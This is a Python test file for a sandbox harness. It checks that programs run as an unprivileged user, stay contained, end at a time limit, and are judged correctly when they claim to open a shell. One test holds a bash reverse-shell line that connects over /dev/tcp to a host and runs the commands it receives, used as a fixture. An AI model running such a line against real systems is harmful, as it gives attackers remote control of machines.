"""The harness of the tests with real processes proves itself first."""

from __future__ import annotations

import os
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from live.account import Account, missing, unprivileged
from live.caged import Caged
from live.campaign import workspace
from live.channels import Channel, Transport
from live.programs import Language, prepare
from live.shells import Speech, control, converse
from live.work import work


@pytest.fixture
def account() -> Account:
    """Whom programs run as."""
    return unprivileged()


@pytest.fixture
def folder(account: Account) -> Iterator[Path]:
    """A throwaway folder."""
    with workspace(account) as path:
        yield path / "case"


def is_alive(pid: int) -> bool:
    """Return whether a process is there."""
    return os.path.exists(f"/proc/{pid}")


def test_echo_is_not_an_answer() -> None:
    """Who sends back what the operator typed, as a pty does, has not shown a shell."""
    near, far = socket.socketpair()

    def echo() -> None:
        while data := far.recv(4096):
            far.sendall(data)

    with near, far:
        thread = threading.Thread(target=echo)
        thread.start()
        proved, heard = converse(Channel(near, near), Speech.SH, patience_s=0.5)
        near.shutdown(socket.SHUT_WR)
        thread.join()
    assert not proved
    assert "echo t" in heard


def test_daemon_does_not_leave_its_cage(account: Account, folder: Path) -> None:
    """A process that forks twice into a session of its own is noted, and ended with its cage."""
    text = "(setsid -f sh -c 'echo $$ > daemon; exec sleep 50' &) ; sleep 0.3"
    command = prepare(account, folder, Language.BASH, text)
    with Caged(account, folder, command, {}, 20) as caged:
        code = caged.wait(10)
        pid = int((folder / "daemon").read_text())
        assert code == 0
        assert is_alive(pid)
    assert not is_alive(pid)
    assert pid in caged.pids()


def test_cage_has_a_last_hour(account: Account, folder: Path) -> None:
    """A program that ignores every polite signal is over when its time is."""
    command = prepare(account, folder, Language.BASH, "trap '' TERM INT HUP; while :; do sleep 0.1; done")
    begun = time.monotonic()
    done = work(account, folder, command, {}, "", life_s=1)
    assert not done.done
    assert time.monotonic() - begun < 10
    assert not any(map(is_alive, done.pids))


def test_case_runs_without_rights(account: Account, folder: Path) -> None:
    """A case has no capability, no supplementary group, no root, and a home of its own."""
    text = "grep -E '^(Uid|CapPrm|CapBnd):' /proc/self/status; echo home=$HOME"
    done = work(account, folder, prepare(account, folder, Language.BASH, text), {}, f"home={folder}")
    assert done.done, done.said
    assert f"Uid:\t{account.uid}\t{account.uid}\t{account.uid}" in done.said
    assert "CapPrm:\t0000000000000000" in done.said


def test_shell_that_hangs_up_is_not_proved(account: Account, folder: Path) -> None:
    """A shell that answers and goes away before it was held long enough does not count."""
    text = 'exec 3<>/dev/tcp/$HOST/$PORT; read -r order <&3; eval "$order" >&3'
    outcome = control(account, folder, prepare(account, folder, Language.BASH, text), Transport.TCP, Speech.SH)
    assert not outcome.proved
    assert "hung up" in outcome.said


def test_missing_program_has_a_reason() -> None:
    """What this machine lacks is named, so that a skipped case can be told from a passed one."""
    assert missing("sh") is None
    assert missing("no-such-program") == "no-such-program is not installed"
